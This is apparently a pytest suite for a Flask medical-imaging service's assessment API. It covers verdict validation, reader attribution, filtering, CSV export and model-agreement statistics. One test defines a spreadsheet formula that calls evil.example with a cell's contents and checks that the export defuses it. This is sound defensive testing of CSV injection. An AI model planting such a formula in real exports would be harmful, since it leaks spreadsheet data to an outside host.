"""Verdicts through a test client: what is taken and refused, who judged, the list, the table, the agreement."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from scipy.stats import binomtest
from sqlalchemy import update
from werkzeug.test import TestResponse

from service.config import Settings
from service.http import create_app
from service.http.assessments import cell
from service.phantoms import write_fundus
from service.store import database as db

Post = Callable[..., TestResponse]
REQUEST = {"model": "sisc_lung", "pixel_spacing_mm": 0.6}
TOKEN, BARE = "0123456789abcdef", "another-token-of-the-test"


def problem(response: TestResponse, status: int) -> dict[str, Any]:
    assert response.status_code == status, response.text
    assert response.content_type == "application/problem+json"
    return dict(response.get_json())


@pytest.fixture
def judge(client: FlaskClient, post: Post, crop: bytes) -> Callable[..., dict[str, Any]]:
    """Judge the finding of a new analysis of a crop; the analysis."""

    def send(**verdict: Any) -> dict[str, Any]:
        identity = post([("a.png", crop)], REQUEST).get_json()["id"]
        response = client.post(f"/api/v1/analyses/{identity}/assessment", json={"finding": "nodule", **verdict})
        assert response.status_code == 200, response.text
        return dict(response.get_json())

    return send


@pytest.fixture
def since() -> str:
    """Now, as a filter: what the test judges comes later, what others judged came before."""
    return datetime.now(UTC).isoformat().replace("+00:00", "Z")


@pytest.fixture
def guarded(app: Flask, tiny_models: Path) -> Iterator[FlaskClient]:
    """The same service behind a named and a bare token."""
    settings = Settings(host="0.0.0.0", tokens=(f"ward-3@x={TOKEN}", BARE), models_dir=tiny_models, dicom_processes=0)
    told = app.extensions["pellucid"].queue.on_end
    yield create_app(settings, app.extensions["pellucid"]).test_client()
    app.extensions["pellucid"].queue.on_end = told


def test_a_verdict_is_kept(client: FlaskClient, post: Post, crop: bytes) -> None:
    place = f"/api/v1/analyses/{post([('a.png', crop)], REQUEST).get_json()['id']}"
    response = client.post(
        f"{place}/assessment", json={"finding": "nodule", "verdict": "modified", "value": "benign", "reason": "a scar"}
    )
    assert response.status_code == 200
    (kept,) = client.get(place).get_json()["assessments"]
    assert kept == response.get_json()["assessments"][0]
    assert {name: kept[name] for name in ("finding", "verdict", "value", "reason")} == {
        "finding": "nodule",
        "verdict": "modified",
        "value": "benign",
        "reason": "a scar",
    }


@pytest.mark.parametrize(
    ("body", "status"),
    [
        ({"finding": "x", "verdict": "accepted"}, 422),
        ({"finding": "nodule", "verdict": "yes"}, 422),
        ({"finding": "nodule", "verdict": "accepted", "value": 3}, 422),
        ({"finding": "nodule", "verdict": "accepted", "mood": "good"}, 422),
        ([], 422),
        ({"finding": ["nodule"], "verdict": "accepted"}, 422),
        ({"finding": "nodule", "verdict": "accepted", "reason": "x" * 2001}, 422),
        ({"finding": "nodule", "verdict": "accepted", "reason": "a\x00b"}, 422),
        ({"finding": "nodule", "verdict": "accepted", "reason": "\ud83d"}, 422),
        ({"finding": "nodule", "verdict": "accepted", "reader": ""}, 422),
        ({"finding": "nodule", "verdict": "accepted", "reader": "   "}, 422),
        ({"finding": "nodule", "verdict": "accepted", "reader": "x" * 65}, 422),
        ({"finding": "nodule", "verdict": "accepted", "reader": "a\nb"}, 422),
        ({"finding": "nodule", "verdict": "accepted", "reader": 7}, 422),
        ({"finding": "nodule", "verdict": "modified", "value": "2"}, 422),
        ({"finding": "nodule", "verdict": "modified", "value": "Malignant"}, 422),
    ],
)
def test_wrong_verdicts_are_refused(client: FlaskClient, done: dict[str, Any], body: Any, status: int) -> None:
    problem(client.post(f"/api/v1/analyses/{done['id']}/assessment", json=body), status)


def test_a_verdict_that_is_no_json_or_too_large(client: FlaskClient, done: dict[str, Any]) -> None:
    place = f"/api/v1/analyses/{done['id']}/assessment"
    problem(client.post(place, data=b"{", content_type="application/json"), 400)
    problem(client.post(place, data=b"\xff\xfe", content_type="application/json"), 400)
    problem(client.post(place, data=b" " * (65 << 10), content_type="application/json"), 413)


def test_a_history_says_who_judged_what_and_when(client: FlaskClient, judge: Callable[..., dict[str, Any]]) -> None:
    done = judge(verdict="rejected", reason="a vessel", reader="Dr. \u00c4rztin")
    place = f"/api/v1/analyses/{done['id']}"
    client.post(f"{place}/assessment", json={"finding": "nodule", "verdict": "accepted", "value": None, "reader": None})
    first, second = client.get(place).get_json()["assessments"]
    assert set(first) == {
        "id", "finding", "verdict", "value", "reason", "reader", "account", "created", "model", "version",
    }  # fmt: skip
    assert (first["verdict"], first["reader"], first["account"]) == ("rejected", "Dr. \u00c4rztin", None)
    assert (second["verdict"], second["reader"], second["value"]) == ("accepted", None, None)
    assert (first["model"], first["version"]) == (done["model"]["name"], done["model"]["version"])
    assert first["created"] < second["created"] and first["id"] != second["id"]


@pytest.mark.parametrize(
    ("token", "reader", "kept"),
    [
        (TOKEN, None, ("ward-3@x", "ward-3@x")),
        (TOKEN, "Dr. B", ("Dr. B", "ward-3@x")),
        (BARE, None, (None, None)),
        (BARE, "Dr. B", ("Dr. B", None)),
    ],
)
def test_the_name_of_a_token_is_kept_and_stands_for_the_reader(
    guarded: FlaskClient, done: dict[str, Any], token: str, reader: str | None, kept: tuple[str | None, str | None]
) -> None:
    response = guarded.post(
        f"/api/v1/analyses/{done['id']}/assessment",
        json={"finding": "nodule", "verdict": "accepted", **({"reader": reader} if reader else {})},
        headers={"Authorization": f"Bearer {token}"},
    )
    last = response.get_json()["assessments"][-1]
    assert (last["reader"], last["account"]) == kept
    assert TOKEN not in response.text


@pytest.mark.parametrize("value", ["benign", "malignant", "not_a_nodule", None])
def test_a_nodule_is_corrected_to_a_class_or_to_none(judge: Callable[..., dict[str, Any]], value: str | None) -> None:
    assert judge(verdict="modified", value=value)["assessments"][0]["value"] == value


def test_an_eye_is_corrected_to_a_grade(client: FlaskClient, post: Post, tmp_path: Path) -> None:
    write_fundus(tmp_path / "eye.png")
    done = post([("eye.png", (tmp_path / "eye.png").read_bytes())]).get_json()
    place, body = f"/api/v1/analyses/{done['id']}/assessment", {"finding": "eye", "verdict": "modified"}
    for grade in "01234":
        assert client.post(place, json={**body, "value": grade}).get_json()["assessments"][-1]["value"] == grade
    for wrong in ("5", "Mild", "malignant", "not_a_nodule", "", " 1"):
        detail = problem(client.post(place, json={**body, "value": wrong}), 422)["detail"]
        assert "value" in detail and "0, 1, 2, 3, 4" in detail
    newest = client.get("/api/v1/assessments?model=clear_dr&limit=1").get_json()["assessments"][0]
    assert (newest["grade"], newest["answered"]) == (done["findings"][0]["grade"], str(done["findings"][0]["grade"]))


def test_of_a_model_that_is_not_installed_any_more_every_value_is_taken(
    app: Flask, client: FlaskClient, post: Post, crop: bytes
) -> None:
    identity = post([("a.png", crop)], REQUEST).get_json()["id"]
    place, body = f"/api/v1/analyses/{identity}/assessment", {"finding": "nodule", "verdict": "modified"}
    problem(client.post(place, json={**body, "value": "lipoma"}), 422)
    with app.extensions["pellucid"].store._engine.begin() as connection:
        connection.execute(update(db.analyses).where(db.analyses.c.id == identity).values(model="gone"))
    assert client.post(place, json={**body, "value": "lipoma"}).get_json()["assessments"][0]["model"] == "gone"


def test_the_list_has_all_that_was_judged(
    client: FlaskClient, judge: Callable[..., dict[str, Any]], since: str
) -> None:
    done = judge(verdict="accepted", reader="A")
    judge(verdict="modified", value="benign", reader="B")
    client.post(f"/api/v1/analyses/{done['id']}/assessment", json={"finding": "nodule", "verdict": "rejected"})
    finding = done["findings"][0]

    def ask(**more: Any) -> list[dict[str, Any]]:
        answer = client.get("/api/v1/assessments", query_string={"since": since, **more}).get_json()
        assert set(answer) == {"assessments", "next"}
        return list(answer["assessments"])

    rejected, modified, accepted = ask()
    assert [one["verdict"] for one in (rejected, modified, accepted)] == ["rejected", "modified", "accepted"]
    assert [one["current"] for one in (rejected, modified, accepted)] == [True, True, False]
    assert accepted == {
        **done["assessments"][0],
        "current": False,
        "analysis": done["id"],
        "study": done["input"]["study"],
        "outcome": done["outcome"],
        "label": finding["label"],
        "answered": {"positive": "malignant", "negative": "benign"}[finding["operating_point"]["decision"]],
        "probabilities": finding["probabilities"],
        "decision": finding["operating_point"]["decision"],
        "grade": None,
        "finding_origin": "request",
    }
    assert ask(reader="B") == ask(verdict="modified") == [modified]
    assert ask(model="clear_dr") == ask(version="9") == ask(until=since) == []
    assert ask(until=modified["created"]) == [accepted]
    page = client.get("/api/v1/assessments", query_string={"since": since, "limit": 2}).get_json()
    assert page["assessments"] == [rejected, modified]
    assert ask(limit=2, cursor=page["next"]) == [accepted]


@pytest.mark.parametrize(
    "asked",
    [
        "?verdict=yes", "?since=today", "?until=x", "?cursor=x", "?limit=0", "?who=A", "?reader=%00", ".csv?cursor=x",
        ".csv?verdict=", "/agreement?by=year", "/agreement?version=1", "/agreement?since=x",
    ],
)  # fmt: skip
def test_wrong_parameters_are_named(client: FlaskClient, asked: str) -> None:
    name = asked.split("?")[1].split("=")[0]
    assert name in problem(client.get(f"/api/v1/assessments{asked}"), 422)["detail"]


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_the_table_is_read_back_as_it_was_written(
    client: FlaskClient, judge: Callable[..., dict[str, Any]], since: str
) -> None:
    judge(verdict="rejected", reason='two lines,\r\nand "quotes"', reader="Dr. \u00c4")
    judge(verdict="accepted", reason=HOSTILE, reader="@SUM(A1)")
    response = client.get("/api/v1/assessments.csv", query_string={"since": since})
    assert response.content_type == "text/csv; charset=utf-8; header=present"
    assert response.headers["Content-Disposition"] == 'attachment; filename="assessments.csv"'
    assert response.data.endswith(b"\r\n") and response.data.count(b"\r\n") == 4
    hostile, plain = csv.DictReader(io.StringIO(response.data.decode(), newline=""), strict=True)
    listed = client.get("/api/v1/assessments", query_string={"since": since}).get_json()["assessments"]
    assert set(plain) == set(listed[1])
    assert plain["reason"] == 'two lines,\r\nand "quotes"' and plain["reader"] == "Dr. \u00c4"
    assert (plain["verdict"], plain["value"], plain["grade"], plain["current"]) == ("rejected", "", "", "true")
    assert plain["probabilities"].startswith('{"benign": 0.') and int(plain["id"]) == listed[1]["id"]
    assert hostile["reason"] == f"'{HOSTILE}" and hostile["reader"] == "'@SUM(A1)"


def test_a_table_longer_than_one_portion_is_whole(
    app: Flask, client: FlaskClient, done: dict[str, Any], since: str
) -> None:
    store = app.extensions["pellucid"].store
    for number in range(501):
        store.assessments.add(done["id"], "nodule", "accepted", reason=f"r{number}")
    response = client.get("/api/v1/assessments.csv", query_string={"since": since})
    reasons = [row["reason"] for row in csv.DictReader(io.StringIO(response.data.decode(), newline=""))]
    assert reasons == [f"r{number}" for number in reversed(range(501))]
    store.assessments.add(done["id"], "nodule", "rejected")


def test_an_empty_table_has_its_header(client: FlaskClient) -> None:
    lines = client.get("/api/v1/assessments.csv?since=2999-01-01").text.split("\r\n")
    assert lines[0].startswith("id,created,analysis,study,") and lines[1:] == [""]


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
def test_no_cell_is_a_formula(first: str) -> None:
    assert cell(f"{first}1+1") == f"'{first}1+1"
    assert cell(f"1{first}1") == f"1{first}1"


def test_agreement_comes_with_n_and_interval(
    client: FlaskClient, judge: Callable[..., dict[str, Any]], since: str
) -> None:
    done = judge(verdict="accepted")
    judge(verdict="accepted")
    judge(verdict="modified", value="not_a_nodule")
    last = judge(verdict="accepted")
    client.post(f"/api/v1/analyses/{last['id']}/assessment", json={"finding": "nodule", "verdict": "rejected"})
    answer = client.get("/api/v1/assessments/agreement", query_string={"since": since, "by": "week"}).get_json()
    assert answer["by"] == "week" and answer["unassessed"] == 0
    (model,) = answer["models"]
    peer = binomtest(2, 4).proportion_ci(0.95, "wilson")
    counts = {"n": 4, "accepted": 2, "modified": 1, "rejected": 1, "agreement": 0.5}
    assert {name: model[name] for name in counts} == counts
    assert (model["name"], model["version"]) == ("sisc_lung", done["model"]["version"])
    assert model["interval"] == pytest.approx([peer.low, peer.high])
    (period,) = model["periods"]
    monday = datetime.fromisoformat(period.pop("start"))
    assert monday.isoweekday() == 1 and 0 <= (datetime.now(UTC).replace(tzinfo=None) - monday).days < 7
    assert period == {**counts, "interval": model["interval"]}
    decision = done["findings"][0]["operating_point"]["decision"]
    other = {"positive": "negative", "negative": "positive"}[decision]
    assert model["by_decision"][decision] == period
    assert model["by_decision"][other] == {**dict.fromkeys(counts, 0), "agreement": None, "interval": None}
    answered = {"positive": "malignant", "negative": "benign"}[decision]
    assert model["corrections"] == [{"answered": answered, "corrected": "not_a_nodule", "n": 1}]


def test_unassessed_findings_of_the_time_are_counted(client: FlaskClient, post: Post, crop: bytes, since: str) -> None:
    post([("a.png", crop)], REQUEST)
    answer = client.get("/api/v1/assessments/agreement", query_string={"since": since}).get_json()
    assert answer == {"by": "month", "models": [], "unassessed": 1}
